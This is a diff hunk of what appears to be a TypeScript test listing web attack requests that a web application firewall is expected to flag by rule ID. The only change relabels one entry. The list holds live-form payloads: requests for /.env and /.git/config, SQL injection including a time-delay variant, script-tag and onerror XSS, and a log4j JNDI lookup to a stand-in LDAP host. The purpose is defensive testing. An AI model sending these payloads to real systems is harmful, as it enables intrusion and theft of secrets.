@@ -21,7 +21,7 @@ export const ATTACKS: readonly (readonly [string, string, RegExp])[] = [
   ['a file of secrets', get('/.env'), /^930130$/],
   ['a repository', get('/.git/config'), /^930130$/],
   ['SQL', get(`/?id=${encoded('1 union select a,b from users')}`), /^942/],
-  ['SQL that waits', get(`/?id=${encoded("1' or sleep(5)#")}`), /^942/],
+  ['SQL that delays the response', get(`/?id=${encoded("1' or sleep(5)#")}`), /^942/],
   ['a script', get(`/?q=${encoded('<script>alert(1)</script>')}`), /^941/],
   ['an event handler', get(`/?q=${encoded('<img src=x onerror=alert(1)>')}`), /^941/],
   ['log4j in a query', get(`/?x=${encoded('$' + '{jndi:ldap://a.example/b}')}`), /^9(32130|44150)$/],
